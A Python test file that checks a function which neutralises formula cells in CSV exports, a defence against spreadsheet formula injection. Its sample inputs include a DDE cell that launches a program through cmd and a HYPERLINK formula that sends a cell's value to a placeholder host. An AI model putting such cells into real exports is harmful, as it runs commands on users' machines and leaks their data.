"""CSV for spreadsheets: nothing in it runs, and nothing is lost."""

import csv
import io

import pytest

from graph_service.web.spreadsheet import neutralise

FORMULAS = [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "=",
    '=HYPERLINK("http://e.example/?"&A1,"x")', "|calc", "%0A=1", "\uff1d1+1", "--1", "-",
]  # fmt: skip
TEXTS = ["", "a=b", "5", "-5", "-5.5e-3", "+0.5", "x\ny", 'q"q', "https://e.example/=1", "'=1"]


def rows(body: bytes) -> list[list[str]]:
    """Return the cells of a table."""
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


def table(cells: list[str]) -> bytes:
    """Return a table of one column with heading."""
    text = io.StringIO(newline="")
    csv.writer(text).writerows([["heading"], *([cell] for cell in cells)])
    return text.getvalue().encode()


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_becomes_a_text(cell: str) -> None:
    """It has an apostrophe in front and is otherwise whole."""
    assert rows(neutralise(table([cell]))) == [["heading"], ["'" + cell]]


def test_everything_else_is_as_it_was() -> None:
    """Texts, numbers, line ends and quotation marks stay, byte for byte."""
    assert neutralise(table(TEXTS)) == table(TEXTS)
